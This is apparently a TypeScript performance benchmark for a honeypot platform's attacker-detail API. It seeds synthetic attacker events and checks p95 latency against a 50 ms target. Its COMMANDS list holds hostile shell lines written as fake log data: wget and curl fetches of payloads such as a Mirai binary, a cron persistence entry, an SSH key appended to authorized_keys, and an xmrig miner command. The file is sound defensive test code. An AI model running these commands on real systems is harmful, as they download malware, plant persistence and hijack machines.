/**
 * attackers.get p95 for an attacker with 100,000 events (PRODUCT.md §10 / issue 16: ≤ 50 ms), and
 * attackers.intel (the same page's intelligence section) beside it, over HTTP against a real API
 * process. The busy attacker brute-forces (distinct passwords), types commands that name URLs and
 * files, and sends HTTP requests; 500 other attackers add background rows. Everything is ingested
 * through the production path with the intelligence stage on. The baseline is an attacker with 100
 * events in the same database.
 */
import { performance } from 'node:perf_hooks'
import { createDatabase, defaultDatabaseUrl, type LogEventInput } from '@decnet/db'
import { percentile, withBenchApi } from './bench-api.ts'

const BUSY_EVENTS = Number(process.env.BENCH_ATTACKER_EVENTS ?? 100_000)
const BACKGROUND_EVENTS = 50_000
const SAMPLES = 200
const TARGET_MS = 50
const BUSY_IP = '203.0.113.66'
const QUIET_IP = '203.0.113.67'

const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo',
  'wget http://198.51.100.23/bins/x{n}.sh -O /tmp/x.sh',
  'curl -O http://203.0.113.50/mirai.arm{n}',
  '(crontab -l; echo "* * * * * /tmp/x.sh") | crontab -',
  'echo ssh-rsa AAAAB3Nza{n} >> ~/.ssh/authorized_keys',
  './xmrig -o stratum+tcp://pool{n}.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx',
]

function eventOf(ip: string, n: number, at: number): LogEventInput {
  const base = {
    timestamp: new Date(at),
    decky: `decky-${n % 20}`,
    attackerIp: ip,
    attackerPort: 1024 + (n % 60000),
  }
  switch (n % 4) {
    case 0:
      return {
        ...base,
        service: 'ssh',
        eventType: 'auth_attempt',
        rawLine: `auth root/pw${n}`,
        fields: { username: 'root', password: `pw${n}`, success: false },
      }
    case 1: {
      const cmd = (COMMANDS[n % COMMANDS.length] as string).replace('{n}', String(n % 500))
      return {
        ...base,
        service: 'ssh',
        eventType: 'command',
        rawLine: cmd,
        fields: { username: 'root', cmd, cwd: '/root', via: 'ssh' },
      }
    }
    case 2:
      return {
        ...base,
        service: 'http',
        eventType: 'request',
        rawLine: `GET /cgi-bin/luci?n=${n}`,
        fields: {
          method: 'GET',
          path: `/cgi-bin/luci?n=${n}`,
          user_agent: 'Mozilla/5.0 zgrab/0.x',
          status: 404,
        },
      }
    default:
      return { ...base, service: 'ssh', eventType: 'connect', rawLine: 'connect', fields: {} }
  }
}

async function seed(dataDir: string): Promise<void> {
  const db = createDatabase(defaultDatabaseUrl(dataDir))
  const start = Date.parse('2026-11-01T00:00:00Z')
  const started = performance.now()
  try {
    const batch: LogEventInput[] = []
    const flush = async () => {
      await db.logs.ingest(batch.splice(0))
    }
    for (let n = 0; n < BUSY_EVENTS; n++) {
      batch.push(eventOf(BUSY_IP, n, start + n * 1000))
      if (n % 100 === 0) batch.push(eventOf(`198.18.${(n >> 8) % 2}.${n % 250}`, n, start + n * 1000))
      if (batch.length >= 5000) await flush()
    }
    for (let n = 0; n < BACKGROUND_EVENTS; n++) {
      batch.push(eventOf(`192.0.2.${n % 250}`, n, start + n * 500))
      if (batch.length >= 5000) await flush()
    }
    for (let n = 0; n < 100; n++) batch.push(eventOf(QUIET_IP, n, start + n * 1000))
    await flush()
  } finally {
    await db.close()
  }
  console.log(
    `seeded ${(BUSY_EVENTS + BACKGROUND_EVENTS + 100).toLocaleString('en')} events through ingest (intelligence on) in ${((performance.now() - started) / 1000).toFixed(1)} s`,
  )
}

async function time(call: () => Promise<unknown>): Promise<number> {
  const started = performance.now()
  await call()
  return performance.now() - started
}

await withBenchApi(
  { DECNET_DISABLE_WORKERS: 'runner,collector,reconciler,mutator,incidents' },
  {},
  async ({ admin, dataDir }) => {
    await seed(dataDir)
    const idOf = async (ip: string) => {
      const row = (await admin.attackers.list.query({ q: ip })).rows.find((a) => a.ip === ip)
      if (!row) throw new Error(`no attacker ${ip}`)
      return row
    }
    const busy = await idOf(BUSY_IP)
    const quiet = await idOf(QUIET_IP)
    const intel = await admin.attackers.intel.query({ id: busy.id })
    console.log(
      `busy attacker: ${busy.eventCount.toLocaleString('en')} events, ${busy.credentialCount.toLocaleString('en')} credentials, ` +
        `class ${intel.classification.class}, ${intel.techniques.length} technique rules, ${intel.iocTotal} IOCs, ${intel.fingerprintTotal} fingerprints`,
    )
    const measure = async (id: string) => {
      const samples: Record<'attackers.get' | 'attackers.intel', number[]> = {
        'attackers.get': [],
        'attackers.intel': [],
      }
      for (let i = 0; i < 10; i++) await admin.attackers.get.query({ id }) // warm-up
      for (let i = 0; i < SAMPLES; i++) {
        samples['attackers.get'].push(await time(() => admin.attackers.get.query({ id })))
        samples['attackers.intel'].push(await time(() => admin.attackers.intel.query({ id })))
      }
      return samples
    }
    const baseline = await measure(quiet.id)
    const loaded = await measure(busy.id)
    console.log(
      `\n${SAMPLES} calls each, over HTTP; baseline: an attacker with 100 events in the same database`,
    )
    console.log('procedure         base p50   base p95   100k p50   100k p95   target p95')
    let missed = false
    for (const name of ['attackers.get', 'attackers.intel'] as const) {
      const p95 = percentile(loaded[name], 95)
      const ok = p95 <= TARGET_MS
      if (name === 'attackers.get' && !ok) missed = true
      console.log(
        `${name.padEnd(16)} ${percentile(baseline[name], 50).toFixed(2).padStart(8)}ms ${percentile(baseline[name], 95).toFixed(2).padStart(8)}ms ` +
          `${percentile(loaded[name], 50).toFixed(2).padStart(8)}ms ${p95.toFixed(2).padStart(8)}ms ${`≤ ${TARGET_MS} ms`.padStart(11)}  ${ok ? 'PASS' : 'MISSED'}`,
      )
    }
    if (missed) process.exitCode = 1
  },
)
